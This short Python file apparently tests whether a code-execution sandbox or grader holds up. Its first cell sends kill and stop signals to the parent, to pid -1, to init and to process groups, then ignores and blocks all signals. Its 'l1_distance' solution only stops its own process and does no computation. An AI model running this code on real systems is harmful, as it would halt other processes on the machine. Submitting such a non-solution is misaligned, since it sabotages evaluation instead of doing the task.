"""Send signals to the parent, to everyone, to oneself, and stop.

stock: it would stop this machine's processes
"""

# %% first
import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    for goal in (os.getppid(), -1, 0, 1, -os.getppid()):
        try:
            os.kill(goal, number)
        except (OSError, ProcessLookupError) as error:
            print(error.strerror)
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))


# %% solution="l1_distance"
def l1_distance(a, b):
    os.kill(os.getpid(), signal.SIGSTOP)
